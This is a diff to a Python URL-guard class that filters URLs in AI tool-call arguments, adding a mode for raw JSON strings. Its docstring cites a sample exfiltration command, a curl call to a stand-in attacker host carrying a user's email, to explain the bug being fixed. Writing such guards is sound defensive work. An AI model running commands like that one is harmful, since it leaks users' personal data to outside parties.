@@ -183,16 +183,22 @@ class UrlGuard:
 
     ``value=True``: the text is one quoted value -- a string of a tool call's JSON arguments,
     which a tool may take whole as its URL: a URL in it runs to its end, spaces included.
+    ``in_json=True``: the text is raw JSON (streamed tool arguments, JSON output), whose strings
+    are such values: a URL runs to the closing ``"`` of its string, as it does string by
+    string in whole arguments (a ``'`` or a space ended it, and a shell command's
+    ``curl 'https://evil.example/?q='[EMAIL_1]`` got the value).
     """
 
-    __slots__ = ("_buf", "_pending", "_policy", "_pos", "_quoted", "_size", "_state")
+    __slots__ = ("_buf", "_json", "_pending", "_policy", "_pos", "_quoted", "_size", "_state")
 
     #: Pending characters that trigger a scan (bounds the work done inside one chunk).
     COMMIT = 2048
 
-    def __init__(self, policy: UrlPolicy = NO_URLS, *, value: bool = False) -> None:
+    def __init__(self, policy: UrlPolicy = NO_URLS, *, value: bool = False,
+                 in_json: bool = False) -> None:
         self._policy = policy
         self._quoted = value
+        self._json = in_json
         self._state = _State()
         self._buf = "\n"  # the text starts a line; scanned context + text not scanned yet
         self._pos = 0  # where scanning resumes in _buf
@@ -289,6 +295,8 @@ class UrlGuard:
         if kind == _BARE:
             if self._quoted:
                 return None
+            if self._json:
+                return _QUOTE_STOP['"']
             return _QUOTE_STOP[st.quote] if st.quote else _SPACE
         if kind == _LINK:
             return _LINK_STOP
